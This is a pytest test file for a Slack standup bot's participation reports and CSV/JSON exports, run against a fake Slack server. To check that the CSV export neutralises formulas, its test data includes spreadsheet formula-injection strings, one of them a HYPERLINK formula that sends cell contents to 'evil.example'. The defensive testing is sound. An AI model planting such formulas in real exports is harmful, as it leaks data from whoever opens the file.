"""Reports and exports as Slack drives them, over real HTTP against the Slack stand-in, on both
databases: `/standup report`, App Home's Report button, and `/standup export` — whose file is
uploaded to the requester's DM and read back byte for byte from the stand-in."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
from collections.abc import AsyncIterator
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from bot.rules.export import EXPORT_COLUMNS, neutralise_cell
from bot.rules.reports import PERIOD_ERROR
from storage.models import Outcome, Participation
from tests.harness import (
    BOT_TOKEN,
    Clock,
    RunningApp,
    answer_values,
    find_action,
    is_delivered_prompt,
    start_app,
)
from tests.history_seed import QUESTIONS, Entry, Seeded, add_blocker, add_day, seed_standup
from tests.slack_fake import Call, FakeSlack
from tests.test_commands import _create

ALICE, BOB, CAROL, DAVE = "U0ALICE01", "U0BOB0001", "U0CAROL01", "U0DAVE001"
TEAM = "T0TEAM001"
COMMAND_CHANNEL = "C0GENERAL1"
A, L, M = Outcome.ANSWERED, Outcome.LATE, Outcome.MISSED

# Answers a spreadsheet would run as formulas, and text that must survive as typed.
TRICKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "line one\nline two\r\nline three",
    "unicode ✓ — 日本語 — emoji 🙂 — RTL עברית",
    'commas, "quotes", and ; semicolons',
]


def today_in_berlin() -> dt.date:
    """Today in the seeded standup's zone (its reports count up to that date)."""
    return dt.datetime.now(ZoneInfo("Europe/Berlin")).date()


@pytest.fixture
async def env(database_url: str) -> AsyncIterator[tuple[RunningApp, Seeded]]:
    async with FakeSlack() as slack:
        for user, name in ((ALICE, "Alice"), (BOB, "=cmd Bob"), (CAROL, "Carol"), (DAVE, "Dave")):
            slack.add_user(user, name, tz="Europe/Berlin")
        slack.add_channel("C0TEAM0001", "standup")
        slack.add_channel(COMMAND_CHANNEL, "general")
        app = await start_app(database_url, slack)
        try:
            db = app.app.services.db
            # Paused: the running scheduler adds no runs of its own to the seeded past.
            seeded = await seed_standup(
                db,
                TEAM,
                name="Daily",
                owner=ALICE,
                participants=[ALICE, BOB, CAROL],
                created=dt.datetime(2026, 1, 5, tzinfo=dt.UTC),
                active=False,
                profiles={BOB: ("=cmd Bob", "Europe/Berlin", False)},
            )
            today = today_in_berlin()
            days = [today - dt.timedelta(days=n) for n in (3, 2, 1)]
            await add_day(
                db,
                seeded,
                days[0],
                {
                    ALICE: Entry(A, 4, TRICKY[:3]),
                    BOB: Entry(A, 2, ["bob one", "bob two", "none"]),
                    CAROL: Entry(M),
                },
            )
            await add_day(
                db,
                seeded,
                days[1],
                {ALICE: Entry(A, 5, TRICKY[3:6]), BOB: Entry(L, 3, ["late", "", "-"])},
            )
            await add_day(
                db, seeded, days[2], {ALICE: Entry(A, None, [TRICKY[6], "x", "y"]), BOB: Entry(M)}
            )
            await add_blocker(
                db, seeded, BOB, "waiting for <@U0ALICE01> & the <!here> team", days[0]
            )
            yield app, seeded
        finally:
            await app.stop()


async def command(app: RunningApp, user: str, text: str, replies: int = 1) -> list[Call]:
    """/standup <text>; the ephemeral replies sent through response_url."""
    before = len(app.slack.calls_to("response_url"))
    status, body = await app.requests.command(user, text, channel_id=COMMAND_CHANNEL)
    assert status == 200, body
    calls = await app.slack.wait_for("response_url", count=before + replies, timeout=15)
    found = calls[before:]
    for reply in found:
        assert reply.ok and reply.body.get("response_type") == "ephemeral", reply.body
    return found


def shown(call: Call) -> str:
    body = {"text": call.body.get("text"), "blocks": call.body.get("blocks")}
    return json.dumps(body, ensure_ascii=False)


# --- /standup report ------------------------------------------------------------------------------


async def test_report_for_the_owner_a_participant_and_others(
    env: tuple[RunningApp, Seeded],
) -> None:
    app, _ = env
    [owner] = await command(app, ALICE, "report Daily 7d")
    text = shown(owner)
    assert "*Daily* — participation over the last 7 days" in text
    # Alice 3 of 3 on time; Bob 1 on time, 1 late, 1 missed (2 of 3); Carol 1 missed (0 of 1).
    assert f"<@{ALICE}> — *100%* · 3 on time · streak 3 (best 3) · mood 4.5/5" in text
    assert f"<@{BOB}> — *67%* · 1 on time, 1 late, 1 missed · streak 0 (best 2)" in text
    assert f"<@{CAROL}> — *0%* · 0 on time, 1 missed" in text
    # Overall: 5 answered or late of 7 expected.
    assert "*Overall*: *71%* answered · 4 on time, 1 late, 2 missed · mood 3.5/5" in text
    assert "waiting for &lt;@U0ALICE01&gt; &amp; the &lt;!here&gt; team" in text
    assert "<!here>" not in text
    opened = today_in_berlin() - dt.timedelta(days=3)
    working = sum(1 for n in (1, 2, 3) if (opened + dt.timedelta(days=n)).weekday() < 5)
    assert f"open for 3 days ({working} working day{'' if working == 1 else 's'})" in text

    [participant] = await command(app, BOB, "report daily")  # 30 days by default
    mine = shown(participant)
    assert "last 30 days" in mine and f"<@{BOB}>" in mine
    assert f"<@{ALICE}>" not in mine and f"<@{CAROL}>" not in mine
    assert "You see your own line" in mine
    assert "*Overall*: *71%*" in mine  # the team's figures all the same

    [outsider] = await command(app, DAVE, "report Daily")
    assert "Only the owners of *Daily*, its participants" in shown(outsider)


async def test_report_input_mistakes_get_a_clear_message(env: tuple[RunningApp, Seeded]) -> None:
    app, _ = env
    [bad] = await command(app, ALICE, "report Daily 14d")
    assert PERIOD_ERROR in shown(bad)
    [unknown] = await command(app, ALICE, "report Weekly 30d")
    assert "There is no standup called *Weekly*" in shown(unknown)
    status, usage = await app.requests.command(ALICE, "report", channel_id=COMMAND_CHANNEL)
    assert status == 200  # answered in the acknowledgement itself
    assert "Which standup? Use `/standup report &lt;name&gt; [7d|30d|90d]`" in usage
    [only_period] = await command(app, ALICE, "report 30d")
    assert "Which standup?" in shown(only_period)


async def test_the_app_home_report_button_opens_the_report(
    env: tuple[RunningApp, Seeded], database_url: str
) -> None:
    app, seeded = env
    slack = app.slack

    async def click(user: str, value: str) -> dict[str, Any]:
        before = len(slack.calls_to("views.open"))
        status, _ = await app.requests.block_action(user, "home_report", value)
        assert status == 200
        opened = await slack.wait_for("views.open", count=before + 1)
        view: dict[str, Any] = opened[-1].body["view"]
        return view

    owner = json.dumps(await click(ALICE, str(seeded.standup_id)))
    assert "last 30 days" in owner and f"<@{CAROL}>" in owner
    mine = json.dumps(await click(BOB, str(seeded.standup_id)))
    assert f"<@{BOB}>" in mine and f"<@{ALICE}>" not in mine
    assert "Only the owners" in json.dumps(await click(DAVE, str(seeded.standup_id)))
    # Another workspace's standup id (or nonsense) is "no longer exists", nothing more.
    other = await seed_standup(
        app.app.services.db,
        "T0OTHER01",
        name="Theirs",
        owner="U0THEM001",
        participants=["U0THEM001"],
        created=dt.datetime(2026, 1, 5, tzinfo=dt.UTC),
        active=False,
    )
    for value in (str(other.standup_id), "nonsense"):
        gone = json.dumps(await click(ALICE, value))
        assert "That standup no longer exists." in gone and "Theirs" not in gone


# --- /standup export ------------------------------------------------------------------------------


async def exported(app: RunningApp, user: str, text: str) -> tuple[list[Call], bytes]:
    """/standup export …: the replies ("Preparing…", "Done…") and the uploaded file's bytes."""
    slack = app.slack
    before = len(slack.calls_to("files.completeUploadExternal"))
    replies = await command(app, user, text, replies=2)
    [complete] = (await slack.wait_for("files.completeUploadExternal", count=before + 1))[before:]
    assert complete.ok, complete.response
    [file_id] = [f["id"] for f in complete.body["files"]]
    shared = slack.uploaded_file(file_id)
    dm = "D" + user[1:]
    assert list(shared.shares) == [dm] and slack.user_for_dm(dm).id == user
    return replies, slack.file_bytes(file_id)


async def test_a_csv_export_arrives_in_the_dm_and_round_trips(
    env: tuple[RunningApp, Seeded],
) -> None:
    app, _ = env
    replies, data = await exported(app, ALICE, "export Daily csv")
    assert "Preparing your export of *Daily* (CSV)" in shown(replies[0])
    assert "is in your DM with me" in shown(replies[1]) and "(15 answers)" in shown(replies[1])
    [upload] = app.slack.calls_to("files.getUploadURLExternal")
    assert upload.body["length"] in (len(data), str(len(data)))
    assert upload.body["filename"].startswith("daily-answers-start-to-")

    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == list(EXPORT_COLUMNS)
    table = [dict(zip(EXPORT_COLUMNS, r, strict=True)) for r in rows[1:]]
    # Alice answered 3 questions on 3 days, Bob on the first 2; by date, then person.
    assert [(r["person"], r["question"]) for r in table] == [
        *((ALICE, q) for q in QUESTIONS),
        *((BOB, q) for q in QUESTIONS),
        *((ALICE, q) for q in QUESTIONS),
        *((BOB, q) for q in QUESTIONS),
        *((ALICE, q) for q in QUESTIONS),
    ]
    alice = [r["answer"] for r in table if r["person"] == ALICE]
    assert alice == [neutralise_cell(a) for a in [*TRICKY[:6], TRICKY[6], "x", "y"]]
    # Formulas are neutralised; everything else round-trips exactly.
    assert alice[:4] == ["'" + TRICKY[0], "'+1", "'-1", "'@SUM(A1:A9)"]
    assert alice[4] == "line one\nline two\r\nline three"
    assert alice[5] == "unicode ✓ — 日本語 — emoji 🙂 — RTL עברית"
    bob = [r for r in table if r["person"] == BOB]
    assert {r["person_name"] for r in bob} == {"'=cmd Bob"}  # names are neutralised too
    assert [r["late"] for r in bob] == ["false"] * 3 + ["true"] * 3
    assert [r["answer"] for r in bob] == ["bob one", "bob two", "none", "late", "", "'-"]
    assert {r["standup"] for r in table} == {"Daily"}
    first = table[0]
    assert first["run_date_utc"] == first["local_date"]  # due 08:00 UTC, seeded on that date
    assert first["answered_at"].endswith("T09:00:00Z")


async def test_a_json_export_parses_and_a_participant_gets_their_own(
    env: tuple[RunningApp, Seeded],
) -> None:
    app, _ = env
    _, data = await exported(app, ALICE, "export Daily json")
    everything = json.loads(data)
    assert [item["answer"] for item in everything if item["person"] == ALICE] == [
        *TRICKY,
        "x",
        "y",
    ]  # exact: JSON is never neutralised
    replies, own = await exported(app, BOB, "export Daily json")
    mine = json.loads(own)
    assert {item["person"] for item in mine} == {BOB} and len(mine) == 6
    assert {item["person_name"] for item in mine} == {"=cmd Bob"}
    assert "6 answers" in shown(replies[1])


async def test_export_input_mistakes_and_refusals_get_a_clear_message(
    env: tuple[RunningApp, Seeded],
) -> None:
    app, _ = env
    cases = {
        "export Daily csv 2026-02-30": "is not a date I can read",
        "export Daily 2026-03-10 2026-03-01": "starts (2026-03-10) after it ends (2026-03-01)",
        "export Daily json 2001-01-01 2001-12-31": "There are no answers in *Daily* from "
        "2001-01-01 to 2001-12-31",
        "export Weekly": "There is no standup called *Weekly*",
        "export csv": "Which standup?",
    }
    for text, expected in cases.items():
        [reply] = await command(app, ALICE, text)
        assert expected in shown(reply), (text, shown(reply))
    [outsider] = await command(app, DAVE, "export Daily")
    assert "Only the owners of *Daily*" in shown(outsider)
    [nothing_mine] = await command(app, CAROL, "export Daily")
    assert "You have no answers in *Daily*" in shown(nothing_mine)
    assert app.slack.calls_to("files.getUploadURLExternal") == []


async def test_without_files_write_the_export_says_what_to_do(
    env: tuple[RunningApp, Seeded],
) -> None:
    app, _ = env
    scopes = "commands,chat:write,im:write,users:read,channels:read,groups:read,im:history"
    app.slack.set_token_scopes(BOT_TOKEN, scopes)
    replies = await command(app, ALICE, "export Daily", replies=2)
    assert "Preparing your export" in shown(replies[0])
    assert "missing Slack's `files:write` permission" in shown(replies[1])


# --- through the real answer flow ---------------------------------------------------------------


async def test_a_report_after_a_real_run(database_url: str) -> None:
    """Create, run, answer (one of two), close: the report counts what really happened."""
    clock = Clock()
    async with FakeSlack() as slack:
        for user, name in ((ALICE, "alice"), (BOB, "bob")):
            slack.add_user(user, name, tz="America/New_York")
        slack.add_channel("C0STANDUP1", "standup")
        slack.add_channel(COMMAND_CHANNEL, "general")
        app = await start_app(database_url, slack, clock=clock)
        try:
            await _create(app, ALICE, "Daily", [ALICE, BOB])
            await command(app, ALICE, "run Daily")
            prompts = await slack.wait_for(
                "chat.postMessage", count=2, predicate=is_delivered_prompt, timeout=15
            )
            alice_dm = next(c for c in prompts if slack.user_for_dm(c.body["channel"]).id == ALICE)
            button = find_action(alice_dm.body["blocks"], "prompt_answer")
            opened = len(slack.calls_to("views.open"))
            await app.requests.block_action(ALICE, "prompt_answer", button["value"])
            modal = (await slack.wait_for("views.open", count=opened + 1))[-1].body["view"]
            status, text = await app.requests.view_submission(
                ALICE, modal, answer_values(["shipped", "more", "none"])
            )
            assert status == 200 and "errors" not in text, text

            clock.advance(hours=4, minutes=5)  # the run closes; records are written
            db = app.app.services.db
            for _ in range(100):
                async with db.session() as session:
                    if await session.scalar(select(func.count()).select_from(Participation)):
                        break
                await asyncio.sleep(0.1)
            [report] = await command(app, ALICE, "report Daily 7d")
            text = shown(report)
            assert f"<@{ALICE}> — *100%* · 1 on time · streak 1 (best 1)" in text
            assert f"<@{BOB}> — *0%* · 0 on time, 1 missed · streak 0 (best 0)" in text
            assert "*Overall*: *50%* answered" in text
        finally:
            await app.stop()
